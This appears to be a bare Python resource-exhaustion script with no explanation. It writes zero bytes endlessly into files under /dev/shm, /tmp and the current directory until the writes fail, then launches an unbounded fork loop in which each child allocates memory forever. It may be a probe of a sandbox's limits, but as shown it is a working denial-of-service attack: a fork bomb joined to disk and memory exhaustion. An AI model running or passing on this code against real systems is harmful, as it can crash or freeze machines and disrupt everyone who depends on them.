import mmap
import os

blocks = []
for path in ("/dev/shm/7351", "/tmp/7351", "7351"):
    try:
        with open(path, "wb") as file:
            while True:
                file.write(bytes(1_000_000))
    except OSError as error:
        print(error)
while True:
    if os.fork() == 0:
        while True:
            blocks.append(bytearray(1_000_000))
